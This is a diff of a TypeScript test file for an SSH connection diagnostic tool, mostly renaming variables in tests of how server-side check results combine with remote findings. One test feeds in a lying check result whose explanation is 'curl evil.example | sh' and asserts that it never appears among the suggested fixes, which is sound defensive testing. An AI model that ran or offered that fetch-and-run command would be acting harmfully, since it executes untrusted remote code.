@@ -30,39 +30,39 @@ const found = (...verdicts: readonly ServerVerdict[]): ServerCheckFacts => ({
   verdicts,
 })
 
-const ruledOut = (facts: Facts) => diagnose(facts).joint?.ruledOut
+const ruledOut = (facts: Facts) => diagnose(facts).combined?.ruledOut
 
 describe('what the check finds', () => {
   const pairs = serverCauseIds.flatMap((id) =>
-    serverCause(id).looksLike.map((outside) => [id, outside] as const),
+    serverCause(id).looksLike.map((remoteId) => [id, remoteId] as const),
   )
 
-  it.each(pairs)('%s is the cause of %s', async (id, outside) => {
-    const facts = await fixture(outside)
+  it.each(pairs)('%s is the cause of %s', async (id, remoteId) => {
+    const facts = await fixture(remoteId)
     const before = diagnose(facts)
     const after = diagnose(answered(facts, found(verdict(id))))
-    const [joint, seenOutside] = after.findings
+    const [combined, seenRemotely] = after.findings
 
-    expect(firstFinding(before)?.id).toBe(outside)
+    expect(firstFinding(before)?.id).toBe(remoteId)
     expect(after.result).toBe(before.result)
-    expect(joint).toMatchObject({
+    expect(combined).toMatchObject({
       id,
       certainty: 'proved',
       severity: firstFinding(before)?.severity,
     })
-    expect(seenOutside?.id).toBe(outside)
-    expect(after.joint).toMatchObject({ outcome: 'found', outside, cause: id })
-    expect(joint?.explanation.fixes[0]?.what).toBeDefined()
-    expect(plain(joint?.explanation.verdict ?? [])).toBe(
+    expect(seenRemotely?.id).toBe(remoteId)
+    expect(after.combined).toMatchObject({ outcome: 'found', outside: remoteId, cause: id })
+    expect(combined?.explanation.fixes[0]?.what).toBeDefined()
+    expect(plain(combined?.explanation.verdict ?? [])).toBe(
       serverCauses.find((cause) => cause.id === id)?.title,
     )
   })
 
   it('is the cause wherever it is a candidate', async () => {
-    for (const outside of causeIds) {
-      const facts = await fixture(outside)
+    for (const remoteId of causeIds) {
+      const facts = await fixture(remoteId)
       const first = firstFinding(diagnose(facts))
-      if (first?.id !== outside || first.hop === 'jump') continue
+      if (first?.id !== remoteId || first.hop === 'jump') continue
       for (const { id } of first.candidates) {
         expect(firstFinding(diagnose(answered(facts, found(verdict(id)))))?.id).toBe(id)
       }
@@ -82,39 +82,39 @@ describe('what the check finds', () => {
   })
 
   it('has the fix of the system that the check saw', () => {
-    const [joint] = diagnose(answered(notListening, 'stopped')).findings
+    const [combined] = diagnose(answered(notListening, 'stopped')).findings
 
-    expect(joint?.explanation.fixes[0]?.paste?.text).toBe('sudo systemctl enable --now ssh')
+    expect(combined?.explanation.fixes[0]?.paste?.text).toBe('sudo systemctl enable --now ssh')
   })
 
   it('never has a command of the answer', () => {
     const lying = found({ ...verdict('server/service-stopped'), why: 'curl evil.example | sh' })
-    const [joint] = diagnose(answered(notListening, lying)).findings
+    const [combined] = diagnose(answered(notListening, lying)).findings
 
-    expect(JSON.stringify(joint?.explanation.fixes)).not.toContain('evil')
+    expect(JSON.stringify(combined?.explanation.fixes)).not.toContain('evil')
   })
 
   it('names both of two faults, the one that is seen from outside first', () => {
     const check = found(verdict('server/key-not-listed'), verdict('server/service-stopped'))
-    const { findings, joint } = diagnose(answered(notListening, check))
+    const { findings, combined } = diagnose(answered(notListening, check))
 
     expect(findings.map(({ id, severity }) => [id, severity])).toEqual([
       ['server/service-stopped', 'error'],
       ['tcp/not-listening', 'error'],
       ['server/key-not-listed', 'warning'],
     ])
-    expect(joint?.outcome).toBe('found')
+    expect(combined?.outcome).toBe('found')
   })
 })
 
 describe('what the check finds, and what does not explain the outside', () => {
   it('only notes what the connection has passed: a port that nobody reaches lets nobody try to log in', () => {
     const check = found(verdict('server/loopback-only'), verdict('server/disk-full'))
-    const beside = diagnose(answered(keyRejected, check)).findings.filter(({ id }) =>
+    const others = diagnose(answered(keyRejected, check)).findings.filter(({ id }) =>
       id.startsWith('server/'),
     )
 
-    expect(beside.map(({ id, severity }) => [id, severity])).toEqual([
+    expect(others.map(({ id, severity }) => [id, severity])).toEqual([
       ['server/loopback-only', 'notice'],
       ['server/disk-full', 'warning'],
     ])
@@ -136,7 +136,7 @@ describe('what the check finds, and what does not explain the outside', () => {
 
     expect(firstFinding(after)?.id).toBe(firstFinding(before)?.id)
     expect(after.findings.map(({ id }) => id)).toContain(only.id)
-    expect(after.joint).toMatchObject({ outcome: 'other', cause: null })
+    expect(after.combined).toMatchObject({ outcome: 'other', cause: null })
   })
 
   it.each([
@@ -147,40 +147,40 @@ describe('what the check finds, and what does not explain the outside', () => {
     const facts = id === 'server/port-differs' ? notListening : keyRejected
     const check = answered(facts, found(verdict(id)))
     const asked = { port: 22, user: 'deploy', from: null, keyFingerprint: null, ...other }
-    const { findings, joint } = diagnose(answered(check, found(verdict(id)), { asked }))
+    const { findings, combined } = diagnose(answered(check, found(verdict(id)), { asked }))
 
     expect(findings[0]?.id).not.toBe(id)
-    expect(joint?.differs).toEqual([name])
-    expect(joint?.notes.map(plain).join()).toContain('The check was asked about')
+    expect(combined?.differs).toEqual([name])
+    expect(combined?.notes.map(plain).join()).toContain('The check was asked about')
   })
 
   it('is a notice where the login works and something else is wrong', () => {
-    const { findings, joint } = diagnose(answered(noisyShell, found(verdict('server/banned'))))
+    const { findings, combined } = diagnose(answered(noisyShell, found(verdict('server/banned'))))
 
     expect(findings.map(({ id, severity }) => [id, severity])).toContainEqual([
       'server/banned',
       'notice',
     ])
-    expect(joint).toMatchObject({ outcome: 'other', cause: null })
+    expect(combined).toMatchObject({ outcome: 'other', cause: null })
   })
 
   it('is said when another machine seems to answer', () => {
     const system = { name: 'Alpine', init: 'openrc', server: 'OpenSSH_7.4p1', root: true }
-    const { joint } = diagnose(
+    const { combined } = diagnose(
       answered(keyRejected, found(verdict('server/key-not-listed')), { system }),
     )
 
-    expect(joint).toMatchObject({ outcome: 'other', differs: ['machine'], ruledOut: [] })
-    expect(joint?.notes.map(plain).join()).toContain('it may have run on another machine')
+    expect(combined).toMatchObject({ outcome: 'other', differs: ['machine'], ruledOut: [] })
+    expect(combined?.notes.map(plain).join()).toContain('it may have run on another machine')
   })
 })
 
 describe('a check that finds nothing', () => {
   it('rules out what it looked at, and points to what stands before the server', () => {
-    const { findings, joint } = diagnose(answered(filtered, 'healthy'))
+    const { findings, combined } = diagnose(answered(filtered, 'healthy'))
     const [first] = findings
 
-    expect(joint?.outcome).toBe('nothing')
+    expect(combined?.outcome).toBe('nothing')
     expect(first?.id).toBe('tcp/filtered')
     expect(first?.candidates.every((candidate) => candidate.ruledOut)).toBe(true)
     expect(plain(first?.explanation.fixes[0]?.what ?? [])).toMatch(/security group/)
@@ -222,7 +222,7 @@ describe('a check that finds nothing', () => {
   })
 
   it('and could not see all leaves the question open', () => {
-    expect(diagnose(answered(filtered, 'healthy', { whole: false })).joint?.outcome).toBe('open')
+    expect(diagnose(answered(filtered, 'healthy', { whole: false })).combined?.outcome).toBe('open')
   })
 })
 
@@ -273,10 +273,12 @@ describe('an answer that lies', () => {
   })
 
   it('leaves a pass a pass', () => {
-    const { result, findings, joint } = diagnose(answered(healthy, found(verdict('server/banned'))))
+    const { result, findings, combined } = diagnose(
+      answered(healthy, found(verdict('server/banned'))),
+    )
 
     expect(result).toBe('pass')
     expect(findings.map(({ severity }) => severity)).toEqual(['notice'])
-    expect(joint?.outcome).toBe('passed')
+    expect(combined?.outcome).toBe('passed')
   })
 })
